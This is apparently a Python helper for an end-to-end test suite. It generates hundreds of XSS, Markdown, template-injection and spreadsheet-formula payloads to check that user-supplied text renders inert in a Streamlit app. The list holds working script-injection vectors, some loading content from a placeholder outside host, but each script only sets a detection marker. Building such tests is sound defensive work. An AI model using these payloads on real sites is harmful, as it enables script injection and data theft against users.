"""Texts that try to be more than text: markup, links, formulas, templates, each behind each end of what may stand before it."""

from __future__ import annotations

import base64

from tests.e2e.hostile import FAR

CLOSERS = (  # ends of whatever the text may stand in
    *("", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "`", "\\"),
    *("{{", "](x)", "**", "$", "&quot;&gt;", "\n\n"),
)
_HIT = "window.hit={n}"
_PAGE = base64.b64encode(b"<script>top.hit=1</script>").decode("ascii")
VECTORS = (  # {hit} is a script, {far} an address that nobody has
    # elements
    *("<script>{hit}</script>", "<ScRiPt>{hit}</sCrIpT>", "<script src=http://{far}/x.js></script>"),
    *("<img src=x onerror={hit}>", "<img/src='x'/onerror={hit}>", "<image src=x onerror={hit}>"),
    *("<img src=http://{far}/x.png>", "<svg onload={hit}>", "<svg><script>{hit}</script></svg>"),
    *("<svg><animate onbegin={hit} attributeName=x dur=1s>", "<details open ontoggle={hit}>x</details>"),
    *("<input autofocus onfocus={hit}>", "<video><source onerror={hit}></video>"),
    *("<audio src=x onerror={hit}></audio>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>"),
    *("<iframe src=javascript:parent.hit=1></iframe>", "<object data=http://{far}/x></object>"),
    *("<embed src=http://{far}/x>", "<body onload={hit}>", "<marquee onstart={hit}>x</marquee>"),
    *("<link rel=stylesheet href=http://{far}/x.css>", "<style>@import 'http://{far}/x.css';</style>"),
    *("<div style='background:url(http://{far}/x.png)'>x</div>", "<base href=http://{far}/>"),
    *("<meta http-equiv=refresh content='0;url=http://{far}/'>", "<form action=http://{far}/><button>x</button>"),
    *("<math><a xlink:href=javascript:{hit}>x</a></math>", "<template><img src=x onerror={hit}></template>"),
    *("<noscript><p title='</noscript><img src=x onerror={hit}>'>", "<select autofocus onfocus={hit}>"),
    *("<a href=javascript:{hit}>x</a>", "<a href='http://{far}/'>x</a>", "<b>x</b><i>y</i><br>"),
    *("<table background=http://{far}/x.png><tr><td>x", "<picture><img srcset=http://{far}/x.png></picture>"),
    # Markdown as Streamlit knows it
    *("[x](javascript:{hit})", "[x](http://{far}/)", "![x](http://{far}/x.png)", "<http://{far}/>"),
    *("http://{far}/{n}", "www.{far}.example/{n}", "[x]: http://{far}/ 'x'", "<javascript:{hit}>"),
    *(f"[x](data:text/html;base64,{_PAGE})", ":red[<img src=x onerror={hit}>]", ":material/delete: {n}"),
    *("$\\href{{javascript:{hit}}}{{x}}$", "$$\\url{{http://{far}/}}$$", "# {n}", "- [ ] {n}", "> {n}"),
    *("```html\n<img src=x onerror={hit}>\n```", "|a|b|\n|-|-|\n|<img src=x onerror={hit}>|{n}|"),
    # encodings and templates
    *("&lt;img src=x onerror={hit}&gt;", "&#60;img src=x onerror={hit}&#62;", "%3Cimg%20src=x%20onerror={hit}%3E"),
    *("\\u003cimg src=x onerror={hit}\\u003e", "＜img src=x onerror={hit}＞", "+ADw-script+AD4-{hit}+ADw-/script+AD4-"),
    *("{{{{constructor.constructor('{hit}')()}}}}", "${{{hit}}}", "<%= {hit} %>", "#{{{hit}}}", "javascript:{hit}"),
    *("=HYPERLINK(\"http://{far}/\",\"{n}\")", "';{hit};'", '";{hit};"'),
)  # fmt: skip


def payloads(count: int) -> list[str]:
    """That many different texts; a script among them writes its number into window.hit."""
    kinds = len(VECTORS) * len(CLOSERS)
    assert count <= kinds, kinds
    return [
        CLOSERS[n // len(VECTORS)]
        + VECTORS[n % len(VECTORS)].format(hit=_HIT.format(n=n + 1), far=FAR, n=n + 1)
        for n in range(count)
    ]
